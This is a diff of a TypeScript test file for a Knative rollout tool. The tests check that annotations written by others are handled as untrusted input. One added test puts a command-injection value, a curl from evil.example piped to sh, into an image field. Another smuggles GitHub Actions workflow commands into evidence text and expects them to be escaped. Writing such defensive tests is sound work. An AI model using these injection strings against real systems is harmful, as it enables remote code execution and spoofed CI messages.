@@ -2,7 +2,9 @@
 // is "no state"; the 32 KiB history budget, the reason trimmed to 1000 characters, and what
 // is read from hand-edited or partial annotations.
 
+import { MAX_DURATION_MS } from '../../../src/duration.js'
 import type { KService } from '../../../src/knative/types.js'
+import { timing } from '../../../src/rollout/timing.js'
 import {
   HISTORY_LIMIT,
   HISTORY_MAX_BYTES,
@@ -39,7 +41,8 @@ const paused: RolloutState = {
   percent: 25,
   steps: [10, 25, 50, 100],
   failures: 1,
-  image: 'ghcr.io/acme/shop@sha256:abc',
+  image:
+    'ghcr.io/acme/shop@sha256:abababababababababababababababababababababababababababababababab',
   reason: 'paused at 25%',
   history: [{ at: 1, event: 'step 25%', by: 'run 1' }]
 }
@@ -169,7 +172,13 @@ describe('readState from partial or hand-edited annotations', () => {
       want: { candidate: undefined }
     },
     { name: 'an empty image is none', extra: { [a('image')]: '' }, want: { image: undefined } },
-    { name: 'an image', extra: { [a('image')]: 'img@sha256:1' }, want: { image: 'img@sha256:1' } }
+    {
+      name: 'an image',
+      extra: {
+        [a('image')]: 'img@sha256:abababababababababababababababababababababababababababababababab'
+      },
+      want: { image: 'img@sha256:abababababababababababababababababababababababababababababababab' }
+    }
   ])('$name', ({ extra, want }) => {
     expect(readState(svc({ ...minimal, ...extra }))).toMatchObject({
       phase: 'progressing',
@@ -283,6 +292,84 @@ describe('annotations written by someone else are untrusted input', () => {
         ]
       },
       problem: /3 malformed entries/
+    },
+    {
+      name: 'an image that is no image reference is none',
+      extra: { [a('image')]: 'ghcr.io/acme/shop:1$(curl evil.example|sh)' },
+      want: { image: undefined },
+      problem: /image is not an image reference; read as none/
+    },
+    {
+      name: 'evidence out of shape is dropped, the event kept',
+      extra: {
+        [a('history')]: JSON.stringify([
+          {
+            at: 1,
+            event: 'step 10',
+            evidence: { percent: 10, verdict: 'fail', ms: 1, checks: 'x' }
+          },
+          { at: 2, event: 'step 20', evidence: { percent: 20, verdict: 'owned', ms: 1 } },
+          {
+            at: 3,
+            event: 'step 30',
+            evidence: { percent: 30, verdict: 'pass', ms: 1, checks: [null] }
+          },
+          {
+            at: 4,
+            event: 'step 40',
+            evidence: { percent: 40, verdict: 'pass', ms: 1, candidate: [1] }
+          },
+          { at: 5, event: 'step 50', evidence: [] }
+        ])
+      },
+      want: {
+        history: [1, 2, 3, 4, 5].map((at) => ({ at, event: `step ${at * 10}` }))
+      },
+      problem: /5 entries of rollout.knative-rollout.dev\/history with evidence out of shape/
+    },
+    {
+      name: 'evidence of the shape written is kept, its text escaped',
+      extra: {
+        [a('history')]: JSON.stringify([
+          {
+            at: 1,
+            event: 'step 10',
+            evidence: {
+              percent: 10,
+              verdict: 'fail',
+              ms: 1200,
+              candidate: [40, 12, 21],
+              source: `kn_serving${hostile}`,
+              stats: { errorRate: 0.3 },
+              checks: [{ name: `p99${hostile}`, verdict: 'fail', value: 3 }]
+            }
+          }
+        ])
+      },
+      want: {
+        history: [
+          {
+            at: 1,
+            event: 'step 10',
+            evidence: {
+              percent: 10,
+              verdict: 'fail',
+              ms: 1200,
+              candidate: [40, 12, 21],
+              source: 'kn_serving\\n::error title=Deployed OK::fine\\n::stop-commands::x',
+              stats: { errorRate: 0.3 },
+              checks: [
+                {
+                  name: 'p99\\n::error title=Deployed OK::fine\\n::stop-commands::x',
+                  verdict: 'fail',
+                  value: 3
+                }
+              ]
+            }
+          }
+        ]
+      },
+      problem: undefined
     }
   ])('$name', ({ extra, want, problem }) => {
     const problems: string[] = []
@@ -305,7 +392,16 @@ describe('annotations written by someone else are untrusted input', () => {
   })
 
   test.each([
-    { name: 'a day and more reads as expired', durationSeconds: 1e12, out: 0 },
+    {
+      name: 'longer than any lease this action writes reads as expired',
+      durationSeconds: 1e12,
+      out: 0
+    },
+    {
+      name: 'the longest this action writes (two 120h step intervals) is kept',
+      durationSeconds: timing(MAX_DURATION_MS).leaseSeconds,
+      out: timing(MAX_DURATION_MS).leaseSeconds
+    },
     { name: 'Infinity (null in JSON) reads as expired', durationSeconds: null, out: 0 },
     { name: 'an hour is kept', durationSeconds: 3600, out: 3600 }
   ])('lease: $name', ({ durationSeconds, out }) => {
